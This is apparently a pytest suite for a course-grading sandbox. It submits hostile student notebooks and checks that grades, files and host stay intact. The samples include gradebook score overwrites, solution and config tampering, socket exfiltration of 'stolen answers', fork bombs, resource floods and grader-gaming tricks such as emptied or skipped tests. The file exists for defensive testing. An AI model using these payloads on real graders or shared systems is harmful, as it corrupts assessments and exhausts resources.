"""The grading sandbox, tried as a hostile class would: one real class of ``a02_conv_arithmetic``, graded once.

The instructor's private folder is made with ``tlcourse instructor init`` (so that workflow is tested too);
honest students are graded before, between and after submissions that attack the gradebook, read the
solutions (private and public), write outside their folder, open a socket, leave a process behind, allocate
8 GiB, fork-bomb, crash their kernel, ignore the interrupt, flood their output, are not notebook JSON, or
tamper with the locked cells. ``tlcourse grade --jobs 2`` grades them all; the tests then read the
gradebook, the autograded notebooks, the feedback, the export and the course folder.

Each attack sits at the top of the student's Task 2 answer, before the right answer, and raises if it
fails: a foiled attack costs exactly Task 2's points, a limit that stops the kernel costs every task from
Task 2 on, and the honest students keep full marks.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import os
import socket
import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace

import nbformat
import psutil
import pytest

from tlcourse.grading import sandbox
from tlcourse.grading.cgroups import make_cgroup

REPO = Path(__file__).resolve().parents[1]
ASSIGNMENT = "a02_conv_arithmetic"
T2_ANSWER = "a02_t2_receptive_field"
TLCOURSE = str(Path(sys.executable).parent / "tlcourse")
DAEMON_MARK = "4242.5"  # `sleep 4242.5`: the process the daemon student leaves behind
MEMORY_LIMIT = "2G"

pytestmark = pytest.mark.skipif(sandbox.sandbox_problem() is not None, reason=f"no sandbox here: {sandbox.sandbox_problem()}")


def _attacks(root: Path, port: int) -> dict[str, str]:
    """Student id -> code put at the top of their Task 2 answer."""
    return {
        "gradebook": f'import sqlite3\ndb = sqlite3.connect(r"{root}/gradebook.db")\ndb.execute("UPDATE grade SET auto_score = 0")\ndb.commit()',
        "gradebook_read": f'print(open(r"{root}/gradebook.db", "rb").read(100))',
        "solutions": (
            f'import json\nsrc = json.load(open(r"{root}/source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"))\n'
            'print([c["source"] for c in src["cells"]])'
        ),
        "public_key": f'print(open(r"{REPO}/solutions/{ASSIGNMENT}/{ASSIGNMENT}.ipynb").read()[:100])',
        "write_outside": f'open(r"{root}/PWNED", "w").write("x")',
        "config": f'open(r"{root}/nbgrader_config.py", "a").write("\\nc.Autograde.autograde_preprocessors = []\\n")',
        "other_student": f'import os\nprint(os.listdir(r"{root}/submitted"))',
        "socket": f'import socket\nsocket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen answers")',
        "daemon": f'import subprocess\nsubprocess.Popen(["sleep", "{DAEMON_MARK}"], start_new_session=True)',
        "memory": "import numpy as np\nhog = np.ones(8 * 2**30, dtype=np.uint8)",
        "forkbomb": "import os, time\nfor _ in range(8):\n    os.fork()\ntime.sleep(60)",
        "sigint": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
        "crash": "import os\nos.kill(os.getpid(), 9)",
        "flood": "while True:\n    print('x' * 100_000)",
        "big_message": "print('x' * (100 << 20))",  # one 100 MiB message: refused before it reaches the grader
        "dev_write": 'open("/dev/stolen", "w").write("x")',
        # memory the processes' resident pages do not show: only a control group's hard limit sees it
        "memfd": "import os\nfds = [os.memfd_create(f'm{i}') for i in range(10)]\nfor fd in fds:\n    os.write(fd, bytes(500 << 20))",
        "threads": "import threading, time\nfor _ in range(3000):\n    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
        "shm_flood": 'with open("/dev/shm/fill", "wb") as f:\n    for _ in range(100):\n        f.write(bytes(10 << 20))',
        # the folder of the kernel's sockets and connection file: a 1 MiB tmpfs in the sandbox, not the host's disk
        "disk_flood": (
            "import os, time\nargs = open('/proc/self/cmdline').read().split(chr(0))\n"
            "folder = os.path.dirname(next(a for a in args if a.endswith('.json')))\n"
            "for i in range(8):\n    with open(os.path.join(folder, f'fill{i}'), 'wb') as f:\n        f.write(bytes(100 << 20))\ntime.sleep(5)"
        ),
    }


def _hard_limits() -> bool:
    """Whether a control group can be made here (root, or delegated cgroups): then memory and tasks are capped hard."""
    group = make_cgroup(1 << 30, 64)
    if group is not None:
        group.remove()
    return group is not None


HARD_LIMITS = _hard_limits()
FOILED = {"gradebook", "gradebook_read", "solutions", "public_key", "write_outside", "config", "other_student", "socket", "dev_write", "shm_flood", "disk_flood"}
FOILED |= {"threads"} if HARD_LIMITS else set()  # more tasks than the group allows: threads fail to start
STOPPED = {"memory", "forkbomb", "sigint", "crash", "big_message"} | ({"memfd"} if HARD_LIMITS else set())
HONEST = ["a_honest", "m_honest", "z_honest"]


def _points(source) -> dict[str, float]:
    """Points per task ("t1", "t2", ...) from the code test cells of the instructor version."""
    points: dict[str, float] = {}
    for cell in source.cells:
        meta = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "code" and meta.get("grade") and not meta.get("solution"):
            task = meta["grade_id"].split("_")[1]
            points[task] = points.get(task, 0) + meta["points"]
    return points


def _solved(release, source):
    nb = copy.deepcopy(release)
    answers = {c.id: c.source for c in source.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")}
    for cell in nb.cells:
        if cell.id in answers:
            cell.source = answers[cell.id]
    return nb


def _hashes(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in root.rglob("*")
        if p.is_file() and p.relative_to(root).parts[0] not in {"autograded", "feedback", "submitted"} and p.name != "gradebook.db"
    }


def _run(args: list[str], cwd: Path, env: dict[str, str], timeout: int = 900) -> subprocess.CompletedProcess:
    return subprocess.run(args, cwd=cwd, env=env, capture_output=True, text=True, timeout=timeout)


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory):
    tmp = tmp_path_factory.mktemp("hostile")
    root = tmp / "private"
    env = {**os.environ, "TLCOURSE_EXCHANGE": str(tmp / "exchange"), "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    init = _run([TLCOURSE, "instructor", "init", str(root), "--root", str(REPO), "--term-seed", "31337"], REPO, env)
    assert init.returncode == 0, init.stdout + init.stderr

    source = nbformat.read(str(root / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), as_version=4)
    release = nbformat.read(str(REPO / "assignments" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), as_version=4)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.1)
    port = listener.getsockname()[1]

    def submit(student: str, nb) -> None:
        folder = root / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, str(folder / f"{ASSIGNMENT}.ipynb"))

    for student in HONEST:
        submit(student, _solved(release, source))
    for student, attack in _attacks(root, port).items():
        nb = _solved(release, source)
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == T2_ANSWER:
                cell.source = attack + "\n\n" + cell.source
        submit(student, nb)
    tampered = _solved(release, source)
    for cell in tampered.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "a02_t1_output_size":
            cell.source = "def conv_output_size(*args, **kwargs):\n    return 0"  # wrong answer...
        if meta.get("grade_id") == "a02_t1_tests":
            cell.source = "pass  # ...and its test emptied"
        if meta.get("grade_id") == "a02_t3_tests":
            meta["points"] = 100  # and a test worth 100 points
    submit("tampered", tampered)
    skipper = _solved(release, source)
    for cell in skipper.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == T2_ANSWER:
            cell.source = next(c.source for c in release.cells if c.metadata.get("nbgrader", {}).get("grade_id") == T2_ANSWER)
        if meta.get("grade_id", "").startswith("a02_t2_") and meta.get("grade"):
            cell.metadata["tags"] = ["skip-execution"]  # nbclient skips such cells; no output would mean full points
    submit("skip_tests", skipper)
    bad = root / "submitted" / "not_json" / ASSIGNMENT
    bad.mkdir(parents=True)
    (bad / f"{ASSIGNMENT}.ipynb").write_text('{"cells": [ this is not json')

    before = _hashes(root)
    start = time.perf_counter()
    proc = _run([TLCOURSE, "grade", ASSIGNMENT, "--jobs", "2", "--memory", MEMORY_LIMIT, "--timeout", "20", "--notebook-timeout", "300", "--quiet"], root, env)
    seconds = time.perf_counter() - start
    # Plain `nbgrader autograde` (what Formgrader's button calls too, through nbgrader's API) is sandboxed as well.
    nb = _solved(release, source)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == T2_ANSWER:
            cell.source = _attacks(root, port)["solutions"] + "\n\n" + cell.source
    submit("via_nbgrader", nb)
    plain = _run([sys.executable, "-m", "nbgrader", "autograde", ASSIGNMENT, "--student", "via_nbgrader"], root, env)
    received = []
    try:
        while True:
            conn, _ = listener.accept()
            received.append(conn.recv(100))
    except OSError:
        pass
    listener.close()
    feedback = _run([sys.executable, "-m", "nbgrader", "generate_feedback", ASSIGNMENT, "--force"], root, env)
    export = _run(
        [sys.executable, "-m", "nbgrader", "export", "--exporter=tlcourse.grading.export.LmsExportPlugin", "--LmsExportPlugin.lms=canvas", "--to", str(tmp / "canvas.csv")],
        root, env,
    )
    print(proc.stdout[-6000:], proc.stderr[-3000:], f"\ngraded {len(HONEST) + len(_attacks(root, port)) + 2} submissions in {seconds:.1f} s", sep="\n")
    yield SimpleNamespace(
        root=root, proc=proc, seconds=seconds, before=before, after=_hashes(root), points=_points(source), received=received,
        feedback=feedback, export=export, canvas=tmp / "canvas.csv", init=init, plain=plain,
    )


def _score(root: Path, student: str) -> tuple[float, float]:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}", course_id="tlcourse") as gb:
        submission = gb.find_submission(ASSIGNMENT, student)
        return submission.code_score, submission.max_code_score


def _autograded(root: Path, student: str):
    return nbformat.read(str(root / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), as_version=4)


def test_every_submission_gets_a_grade_record_and_the_run_ends(graded) -> None:
    assert graded.proc.returncode == 0, graded.proc.stdout[-4000:] + graded.proc.stderr[-4000:]
    assert graded.seconds < 600
    for student in [*HONEST, *FOILED, *STOPPED, "daemon", "flood", "tampered", "skip_tests", "not_json"]:
        score, max_score = _score(graded.root, student)
        assert max_score == sum(graded.points.values()), student
        assert student in graded.proc.stdout, "the summary table lists every student"


@pytest.mark.parametrize("student", HONEST + ["daemon"])
def test_honest_students_keep_full_marks(graded, student: str) -> None:
    assert _score(graded.root, student)[0] == sum(graded.points.values())


@pytest.mark.parametrize("student", sorted(FOILED))
def test_a_foiled_attack_earns_nothing_and_costs_only_its_task(graded, student: str) -> None:
    assert _score(graded.root, student)[0] == sum(graded.points.values()) - graded.points["t2"]


@pytest.mark.parametrize("student", sorted(STOPPED))
def test_a_submission_stopped_by_a_limit_keeps_the_points_before_it(graded, student: str) -> None:
    assert _score(graded.root, student)[0] == graded.points["t1"]
    reasons = [o.evalue for c in _autograded(graded.root, student).cells if c.cell_type == "code" for o in c.get("outputs", []) if o.get("ename") == "GradingStopped"]
    assert reasons and reasons[0].startswith("stopped:") and T2_ANSWER in reasons[0], reasons[:1]
    expected = {
        "memory": f"more than {MEMORY_LIMIT[0]} GiB of memory", "forkbomb": "more than 64 processes", "sigint": "ignored the interrupt",
        "crash": "kernel died", "big_message": "stopped arriving", "memfd": f"more than {MEMORY_LIMIT[0]} GiB of memory",
    }
    assert expected[student] in reasons[0]
    assert expected[student] in graded.proc.stdout  # the summary's "limit hit" column


def test_plain_nbgrader_autograde_is_sandboxed_too(graded) -> None:
    from tlcourse.grading import course_config
    from tlcourse.grading.execute import SandboxedExecute

    assert graded.plain.returncode == 0, graded.plain.stdout[-3000:] + graded.plain.stderr[-3000:]
    assert _score(graded.root, "via_nbgrader")[0] == sum(graded.points.values()) - graded.points["t2"]
    for root in (REPO, graded.root):  # the public course and the private folder
        assert course_config(root).Autograde.autograde_preprocessors[0] is SandboxedExecute


def test_nothing_outside_the_scratch_folder_changed(graded) -> None:
    assert graded.after == graded.before, "a submission changed the course folder (config, source, release)"
    assert not (graded.root / "PWNED").exists()
    assert graded.received == [], "a submission reached a socket on the host"
    leftovers = [p.info for p in psutil.process_iter(["pid", "cmdline"]) if DAEMON_MARK in " ".join(p.info["cmdline"] or [])]
    assert leftovers == [], f"processes outlived their grading: {leftovers}"


def test_output_flood_is_cut_and_graded(graded) -> None:
    nb = _autograded(graded.root, "flood")
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == T2_ANSWER)
    assert len(nbformat.writes(nb)) < 3_000_000
    assert _score(graded.root, "flood")[0] in {graded.points["t1"], sum(graded.points.values()) - graded.points["t2"]}
    assert any("output cut" in o.get("text", "") or o.get("ename") for o in cell.outputs)


def test_tampered_and_unreadable_submissions(graded) -> None:
    assert _score(graded.root, "tampered")[0] == sum(graded.points.values()) - graded.points["t1"]  # locked test restored
    assert _score(graded.root, "skip_tests")[0] == sum(graded.points.values()) - graded.points["t2"]  # its tests ran
    assert _score(graded.root, "not_json")[0] == 0
    assert "not a readable notebook" in graded.proc.stdout


def test_feedback_shows_no_hidden_test_but_says_why_grading_stopped(graded) -> None:
    assert graded.feedback.returncode == 0, graded.feedback.stdout[-3000:] + graded.feedback.stderr[-3000:]
    honest = (graded.root / "feedback" / "a_honest" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert "HIDDEN TESTS" not in honest and "_measured_field" not in honest and "hidden tests: not shown" in honest
    memory = (graded.root / "feedback" / "memory" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert "stopped: more than" in memory


def test_canvas_export_has_every_student_and_the_total(graded) -> None:
    assert graded.export.returncode == 0, graded.export.stdout[-2000:] + graded.export.stderr[-2000:]
    rows = list(csv.DictReader(graded.canvas.open()))
    assert rows[0]["Student"].strip() == "Points Possible"
    by_login = {r["SIS Login ID"]: r for r in rows[1:]}
    assert float(by_login["a_honest"][ASSIGNMENT]) == sum(graded.points.values())
    assert float(by_login["memory"][ASSIGNMENT]) == float(by_login["memory"]["Final Score"]) == graded.points["t1"]
    assert set(HONEST) | STOPPED <= set(by_login)


def test_private_folder_has_its_own_term_seed_and_the_public_release(graded) -> None:
    import re

    from tlcourse.grading import list_assignments
    from tlcourse.grading.assignments import normalize_notebook

    seeded = int(re.search(r"term seed 31337 written into (\d+) hidden-test blocks", graded.init.stdout).group(1))
    assert seeded >= len(list_assignments(REPO)), "every assignment draws hidden cases from its term seed"
    private_source = (graded.root / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text()
    assert "TERM_SEED = 31337  # tlcourse:term-seed" in private_source and "TERM_SEED = 0  #" not in private_source
    private = normalize_notebook(graded.root / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    public = normalize_notebook(REPO / "assignments" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    assert private == public, "students work from the public assignments/: the private release must equal it"
